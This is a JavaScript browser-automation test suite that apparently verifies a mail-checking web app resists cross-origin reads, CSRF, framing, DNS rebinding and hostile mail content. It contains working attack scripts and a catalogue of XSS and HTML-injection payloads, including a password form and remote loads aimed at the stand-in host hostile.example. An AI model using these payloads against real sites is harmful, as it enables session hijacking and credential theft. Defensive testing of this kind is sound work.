// What other pages in the same browser try while the person is inside, and what mails full of tricks try.

import { createServer } from 'node:http';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { FOREIGN, Watch, check, demand, given, inPage } from './house.mjs';

export async function attacks(browser, house, state) {
  await control(browser);
  await pages(browser, house, state);
  await mails(browser, house, state);
}

/** A server of the attacker; it keeps what it was asked for. */
async function attacker(bodies) {
  const heard = [];
  const server = createServer((request, answer) => {
    heard.push(request.url);
    const body = bodies[new URL(request.url, 'http://x').pathname];
    answer.writeHead(body === undefined ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' });
    answer.end(body ?? '');
  });
  await new Promise((resolve) => {
    server.listen(0, '127.0.0.1', resolve);
  });
  return { server, heard, port: server.address().port };
}

/** Reads everything that a page elsewhere can try to read; what it got is told, refused or not. */
const reading = (target) => `(async () => {
  const got = {};
  const tried = async (name, act) => {
    try { got[name] = await act(); } catch (error) { got[name] = 'refused'; }
  };
  const bait = ['/', '/check', '/settings', '/help', '/mails', '/sources', '/api/v1/questions', '/api/v1/openapi.json', '/metrics', '/readyz', '/style.css'];
  for (const path of bait) {
    const url = ${JSON.stringify(target)} + path;
    await tried('cors ' + path, async () => (await fetch(url, { credentials: 'include' })).text());
    await tried('no-cors ' + path, async () => {
      const answer = await fetch(url, { credentials: 'include', mode: 'no-cors' });
      return answer.type === 'opaque' ? 'refused' : answer.text();
    });
    await tried('xhr ' + path, () => new Promise((resolve, reject) => {
      const asked = new XMLHttpRequest();
      asked.open('GET', url);
      asked.withCredentials = true;
      asked.onload = () => resolve(asked.responseText);
      asked.onerror = reject;
      asked.send();
    }));
    await Promise.all([['img', 'src'], ['script', 'src'], ['link', 'href'], ['embed', 'src'], ['object', 'data'], ['iframe', 'src']].map(([tag, attribute]) =>
      tried(tag + ' ' + path, () => new Promise((resolve, reject) => {
        const element = document.createElement(tag);
        if (tag === 'link') element.rel = 'stylesheet';
        // A frame tells that it is loaded also where it was refused; what is in it is asked.
        element.onload = () => {
          if (tag !== 'iframe' && tag !== 'object' && tag !== 'embed') return resolve('loaded');
          try { resolve(element.contentDocument?.body ? element.contentDocument.body.innerText || 'refused' : 'refused'); } catch { resolve('refused'); }
        };
        element.onerror = reject;
        setTimeout(() => resolve('refused'), 1500);
        element[attribute] = url;
        document.body.append(element);
      })),
    ));
  }
  return got;
})()`;

/** Tries to change something: an answer to an open question, a check, and whatever else a form of ours does. */
const changing = (target, id) => `(async () => {
  const got = {};
  const fields = { id: ${JSON.stringify(id)}, answer: 'mine', form_token: 'guess', token: 'guess' };
  const forms = ['/answer', '/check', '/leave', '/settings', '/settings/language', '/settings/backup', '/settings/test', '/enter/again', '/wrong', '/api/v1/answers'];
  const kinds = ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data; boundary=b', 'application/json'];
  for (const path of forms) for (const kind of kinds) for (const mode of ['no-cors', 'cors']) {
    const body = kind.startsWith('multipart')
      ? Object.entries(fields).map(([name, value]) => '--b\\r\\nContent-Disposition: form-data; name="' + name + '"\\r\\n\\r\\n' + value + '\\r\\n').join('') + '--b--\\r\\n'
      : kind.endsWith('json') ? JSON.stringify(fields) : new URLSearchParams(fields).toString();
    try {
      const answer = await fetch(${JSON.stringify(target)} + path, { method: 'POST', mode, credentials: 'include', body, headers: { 'content-type': kind } });
      got[[path, kind, mode].join(' ')] = answer.type;
    } catch { got[[path, kind, mode].join(' ')] = 'refused'; }
  }
  navigator.sendBeacon(${JSON.stringify(target)} + '/answer', new URLSearchParams(fields));
  return got;
})()`;

async function pages(browser, house, state) {
  const target = house.origin;
  const open = house.questions();
  const contextOf = () => browser.newContext({ storageState: state, locale: 'en-US' });
  const own = await contextOf();
  const home = await own.newPage();
  await home.goto(`${target}/`);
  const id = await home.locator('section.card input[name=id]').first().getAttribute('value');
  const secrets = [id, await home.locator('input[name=form_token]').first().getAttribute('value')];
  await own.close();
  const form = (path, enctype) => `<!doctype html><form id="f" method="post" action="${target}${path}" enctype="${enctype}">
    <input name="form_token" value="guess"><input name="id" value="${id}"><input name="answer" value="mine"></form>`;
  const enctypes = ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'];
  const { server, port } = await attacker({
    '/': '<!doctype html><title>hostile</title><body>hostile',
    '/frame': `<!doctype html><body><iframe id="f" src="${target}/" width="800" height="600"></iframe>`,
    ...Object.fromEntries(enctypes.map((kind, at) => [`/form${at}`, form('/answer', kind)])),
  });
  // Another port of this machine is the same site to a browser, and so gets the cookie; another name is not.
  const origins = { 'another port': `http://127.0.0.1:${port}`, 'another name': `http://${FOREIGN}:${port}` };
  for (const [kind, origin] of Object.entries(origins)) {
    const inside = async (act) => {
      const context = await contextOf();
      try {
        const page = await context.newPage();
        const answers = [];
        page.on('response', (response) => {
          if (response.url().startsWith(target)) answers.push(response);
        });
        return await act(page, answers, context);
      } finally {
        await context.close();
      }
    };
    await check(`attack: a page of ${kind} reads nothing`, () =>
      inside(async (page) => {
        await page.goto(`${origin}/`);
        const got = await inPage(page, reading(target));
        demand(Object.keys(got).length > 90, 'the page did not try');
        return Object.entries(got)
          .filter(([, what]) => what !== 'refused')
          .map(([name, what]) => `${name}: ${what.slice(0, 80)}`);
      }),
    );
    await check(`attack: a page of ${kind} changes nothing by asking`, () =>
      inside(async (page, answers) => {
        await page.goto(`${origin}/`);
        const got = await inPage(page, changing(target, id));
        demand(Object.keys(got).length > 70, 'the page did not try');
        demand(house.questions() === open, 'a question was answered');
        const taken = answers.filter((it) => it.request().method() === 'POST' && it.status() < 400);
        return taken.map((it) => `${it.url()}: ${it.status()}`);
      }),
    );
    for (const [at, enctype] of enctypes.entries()) {
      await check(`attack: a form of ${kind} (${enctype}) changes nothing`, () =>
        inside(async (page) => {
          await page.goto(`${origin}/form${at}`);
          const [answer] = await Promise.all([
            page.waitForResponse((it) => it.url().startsWith(target)),
            inPage(page, 'document.getElementById("f").submit()'),
          ]);
          demand(answer.status() === 403, `the form was answered with ${answer.status()}`);
          demand(house.questions() === open, 'the question was answered');
        }),
      );
    }
    await check(`attack: a page of ${kind} frames nothing`, () =>
      inside(async (page) => {
        await page.goto(`${origin}/frame`);
        await page.waitForLoadState('networkidle');
        const shown = [];
        for (const frame of page.frames().slice(1)) {
          shown.push(await frame.locator('body').innerText({ timeout: 2000 }).catch(() => ''));
        }
        demand(!shown.some((text) => text.includes('mioboe') || secrets.some((it) => text.includes(it))), `framed: ${shown}`);
      }),
    );
    await check(`attack: a page of ${kind} holds no window of ours`, () =>
      inside(async (page, _, context) => {
        await page.goto(`${origin}/`);
        const opened = context.waitForEvent('page');
        await inPage(page, `window.held = window.open(${JSON.stringify(`${target}/`)}); 0`);
        const ours = await opened;
        await ours.waitForLoadState();
        // From another name the browser sends no cookie along (SameSite=Strict): the window shows how to come in.
        const seen = kind === 'another port' ? '.card' : 'form[action="/enter/again"]';
        demand((await ours.locator(seen).count()) > 0, 'the window is not ours');
        const held = await inPage(page, 'held.closed || (() => { try { return typeof held.document; } catch { return "refused"; } })()');
        demand(held === true || held === 'refused', `the window is held: ${held}`);
        demand((await inPage(ours, 'window.opener === null')) === true, 'our window knows who opened it');
      }),
    );
  }
  server.close();

  await check('attack: a name of somebody else’s that leads here is told nothing', async () => {
    const context = await contextOf();
    const page = await context.newPage();
    const foreign = `http://${FOREIGN}:${new URL(target).port}`;
    // The attacker's own page first; then the name leads to this machine, and the page shares its origin with us.
    await page.route(`${foreign}/hostile`, (route) => route.fulfill({ contentType: 'text/html', body: 'hostile' }));
    await page.goto(`${foreign}/hostile`);
    for (const path of ['/', '/check', '/help', '/settings', '/mails', '/sources', '/enter?token=x', '/style.css', '/healthz', '/readyz', '/metrics', '/api/v1/questions']) {
      for (const method of ['GET', 'POST', 'HEAD']) {
        const asked = `fetch(${JSON.stringify(path)}, { method: '${method}', credentials: 'include' }).then(async (it) => it.status + await it.text())`;
        const got = await inPage(page, asked);
        demand(got === '421', `${method} ${path}: ${got.slice(0, 80)}`);
      }
    }
    await context.close();
  });
}

/** The attacks must be able to succeed: the same against a server without any defence. */
async function control(browser) {
  await check('attack: control: a server without defences is read, framed and changed', async () => {
    const changed = [];
    const open = (request, answer) => {
      if (request.method === 'POST') changed.push(request.url);
      answer.writeHead(200, {
        'content-type': request.url === '/style.css' ? 'text/css' : 'text/html',
        'access-control-allow-origin': request.headers.origin ?? '*',
        'access-control-allow-credentials': 'true',
        'access-control-allow-headers': 'content-type',
      });
      answer.end('<!doctype html><body>secret');
    };
    const servers = [open, open].map((act) => createServer(act));
    await Promise.all(servers.map((it) => new Promise((resolve) => {
      it.listen(0, '127.0.0.1', resolve);
    })));
    const [target, own] = servers.map((it) => `http://127.0.0.1:${it.address().port}`);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(`${own}/`);
    const got = await inPage(page, reading(target));
    await inPage(page, changing(target, 'id'));
    await page.goto(`${own}/`);
    await inPage(page, `new Promise((resolve) => { const frame = document.createElement('iframe'); frame.onload = resolve; frame.src = ${JSON.stringify(target)}; document.body.append(frame); })`);
    const framed = await page.frames()[1].locator('body').innerText();
    await context.close();
    for (const it of servers) it.close();
    const ways = Object.entries(got).filter(([, what]) => what !== 'refused').map(([name]) => name.split(' ')[0]);
    for (const way of ['cors', 'xhr', 'link']) demand(ways.includes(way), `${way} read nothing`);
    demand(framed === 'secret', `framed: ${framed}`);
    demand(changed.filter((it) => it === '/answer').length > 5, `changed: ${changed.length}`);
  });
}

/** Mails that try to run, load, lead away, cover or send. */
const TRICKS = {
  script: '<script>hostile()</script><script src="http://hostile.example/a.js"></script>',
  handler: '<img src="http://hostile.example/a.png" onerror="hostile()"><body onload="hostile()"><input autofocus onfocus="hostile()">',
  style: '<style>@import url(http://hostile.example/a.css); * { display: none !important } body { background: url(http://hostile.example/b) }</style>',
  cover: '<div style="position:fixed;inset:0;z-index:99999;background:#fff url(http://hostile.example/c)">hostile</div>',
  svg: '<svg xmlns="http://www.w3.org/2000/svg" onload="hostile()"><script>hostile()</script><image href="http://hostile.example/d.png"/><animate onbegin="hostile()" attributeName="x"/><foreignObject><iframe src="http://hostile.example/e"></iframe></foreignObject></svg>',
  refresh: '<meta http-equiv="refresh" content="0;url=http://hostile.example/f">',
  base: '<base href="http://hostile.example/"><a href="/g">hostile</a>',
  form: '<form action="http://hostile.example/h" method="post" id="hostile"><input type="password" name="p"><button>hostile</button></form><button form="hostile">hostile</button>',
  frame: '<iframe srcdoc="<script>parent.hostile()</script>"></iframe><object data="http://hostile.example/i"></object><embed src="http://hostile.example/j">',
  preload: '<link rel="preload" as="image" href="http://hostile.example/k"><link rel="prefetch" href="http://hostile.example/l"><link rel="dns-prefetch" href="//hostile.example"><video src="http://hostile.example/m" poster="http://hostile.example/n"></video><audio autoplay src="http://hostile.example/o"></audio>',
  scheme: '<a href="javascript:hostile()">hostile</a><a href="data:text/html,<script>hostile()</script>">hostile</a><a href="vbscript:hostile()">x</a><a ping="http://hostile.example/p" href="http://hostile.example/q">Amazon</a>',
  escape: '</pre></details></main><script>hostile()</script><!-- <plaintext> --><textarea></textarea><title></title>',
  entity: '&lt;script&gt;hostile()&lt;/script&gt;&lt;img src=x onerror=hostile()&gt; &quot;&gt;&lt;svg onload=hostile()&gt;',
  mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hostile()&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=hostile()>"></noscript>',
  template: '<template><script>hostile()</script></template><slot></slot><portal src="http://hostile.example/r"></portal>{{ hostile }}${hostile()}',
};

function mail(body) {
  return [
    'Received: from hostile.example ([192.0.2.1]) by mx.example with ESMTP; Sun, 22 Nov 2026 08:00:00 +0900',
    'From: "Amazon.co.jp <script>hostile()</script>" <x@sender.example>',
    'Reply-To: "\'><img src=x onerror=hostile()>" <x@hostile.example>',
    'Subject: </title><script>hostile()</script> " onmouseover="hostile()',
    'Date: Sun, 22 Nov 2026 08:00:00 +0900',
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="b"',
    '',
    '--b',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<html><body>Amazon ${body}</body></html>`,
    '--b',
    'Content-Type: image/svg+xml; name="<svg onload=hostile()>.svg"',
    'Content-Disposition: attachment; filename="<svg onload=hostile()>.svg"',
    '',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="hostile()"/>',
    '--b--',
    '',
  ].join('\r\n');
}

/** What of a mail must never stand in a page as an element. */
const FORBIDDEN = 'script, style, svg, math, img, iframe, object, embed, video, audio, base, portal, template, meta[http-equiv], [style], [onload], [onerror], [onclick], [onfocus], [srcdoc], link:not([href^="/"]), a:not([href^="/"]):not([href^="#"]):not([href^="mailto:"]), form:not([action^="/"])';

async function mails(browser, house, state) {
  for (const [name, body] of Object.entries(TRICKS)) {
    await check(`attack: a mail with tricks (${name}) runs nothing and loads nothing`, async () => {
      const context = await browser.newContext({ storageState: state, locale: 'ja-JP' });
      try {
        const page = await context.newPage();
        const watch = new Watch(page, house.origin);
        const ways = [
          async () => {
            const file = join(given.work, 'tricks.eml');
            writeFileSync(file, mail(body));
            await page.locator('#mail').setInputFiles(file);
            await page.locator('form:has(#mail) button').click();
          },
          async () => {
            await page.locator('#source').fill(mail(body));
            await page.locator('form:has(#source) button').click();
          },
          async () => {
            await page.locator('#text').fill(`Amazon ${body}`);
            await page.locator('form:has(#text) button').click();
          },
        ];
        for (const way of ways) {
          await page.goto(`${house.origin}/check`);
          await way();
          await page.locator('.verdict').waitFor();
          for (const folded of await page.locator('details').all()) await folded.locator('summary').first().click();
          await page.waitForLoadState('networkidle');
          demand(page.url() === `${house.origin}/check`, `the page went to ${page.url()}`);
          demand((await page.locator('main').innerText()).includes('Amazon'), 'the mail is not shown');
          const found = await inPage(page, `[...document.querySelectorAll(${JSON.stringify(FORBIDDEN)})].map((it) => it.outerHTML.slice(0, 100))`);
          demand(found.length === 0, `in the page: ${found.join(' | ')}`);
          const top = await inPage(page, `(() => { scrollTo(0, 0); const mark = document.querySelector('.mark').getBoundingClientRect(); return document.elementFromPoint(mark.x + 5, mark.y + 5).closest('.mark') !== null; })()`);
          demand(top, 'the head of the page is covered');
        }
        demand(watch.requests.length > 0, 'no request was seen at all');
        return watch.faults;
      } finally {
        await context.close();
      }
    });
  }
}
